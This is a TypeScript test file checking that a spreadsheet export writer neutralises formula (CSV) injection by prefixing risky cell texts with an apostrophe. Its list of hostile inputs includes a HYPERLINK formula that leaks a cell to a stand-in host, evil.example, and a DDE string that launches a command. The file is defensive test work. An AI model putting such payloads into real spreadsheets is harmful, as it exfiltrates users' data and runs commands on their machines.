import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { describe, expect, it } from 'vitest';
import { isLiveFormula, readXlsx } from '../test/xlsx-reader.js';
import { addRow, inertText, newSheet, textOfInert, workbookBuffer } from './xlsx.js';

/** Texts a user can type that a spreadsheet would run (OWASP's CSV-injection examples among them). */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
  "=cmd|' /C calc'!A0",
  '+41 79 123 45 67',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

describe('the .xlsx writer (docs/decisions/024-files-read-in-any-tool.md)', () => {
  it('writes a text starting with = + - @, a tab or a carriage return with a leading apostrophe, and only those', () => {
    for (const text of HOSTILE) expect(inertText(text), text).toBe(`'${text}`);
    for (const text of ['Dupont', "'=déjà inerte", 'Lot A-12', '1 = 1', '']) expect(inertText(text), text).toBe(text);
    for (const text of [...HOSTILE, 'Dupont', "'Apostrophe"]) expect(textOfInert(inertText(text)), text).toBe(text);
  });

  it('keeps every hostile text inert for a spreadsheet, in the file and once saved as CSV; numbers and dates stay numbers and dates', async () => {
    const { workbook, sheet } = newSheet({ sheet: 'Test', headers: ['Texte', 'Montant', 'Date'] });
    for (const text of HOSTILE) addRow(sheet, [text, -1500, new Date(Date.UTC(2026, 10, 26, 10, 30))]);
    const read = readXlsx(await workbookBuffer(workbook));

    expect(read.formulas).toEqual([]);
    // XML reads a carriage return back as a line feed.
    const stored = (text: string) => text.replace(/\r/g, '\n');
    const rows = read.cells.slice(1);
    rows.forEach((row, index) => {
      expect(row[0]).toMatchObject({ type: 's', value: `'${stored(HOSTILE[index])}` });
      expect(row[1]).toMatchObject({ type: 'n', value: -1500 });
      expect(row[2]).toMatchObject({ isDate: true, value: '2026-11-26T10:30:00' });
    });
    const csv = read.csv.slice(1);
    expect(csv).toHaveLength(HOSTILE.length);
    for (const [index, [text, amount]] of csv.entries()) {
      expect(text.startsWith("'"), text).toBe(true);
      expect(text.slice(1)).toBe(stored(HOSTILE[index]));
      // A number, shown as Gnumeric shows it (a typographic minus).
      expect(amount.replace('−', '-')).toBe('-1500');
    }
    expect(csv.flat().filter(isLiveFormula)).toEqual([]);
  });

  it('is the only writer: every export adds its rows through addRow', () => {
    const root = join(import.meta.dirname, '..');
    const sources = (folder: string): string[] =>
      readdirSync(folder, { withFileTypes: true }).flatMap((entry) =>
        entry.isDirectory() ? sources(join(folder, entry.name)) : entry.name.endsWith('.ts') ? [join(folder, entry.name)] : [],
      );
    const direct = sources(root)
      // The test helpers under test/ only read workbooks back; nothing they hold ships.
      .filter(
        (path) =>
          !/\.(test|fixtures)\.ts$/.test(path) && !path.endsWith(join('platform', 'xlsx.ts')) && !path.startsWith(join(root, 'test')),
      )
      .filter((path) => /\.addRow\(|\.addRows\(|\.getCell\([^)]*\)\.value\s*=|new ExcelJS\.Workbook\(/.test(readFileSync(path, 'utf8')))
      .map((path) => relative(root, path));
    expect(direct).toEqual([]);
  });
});
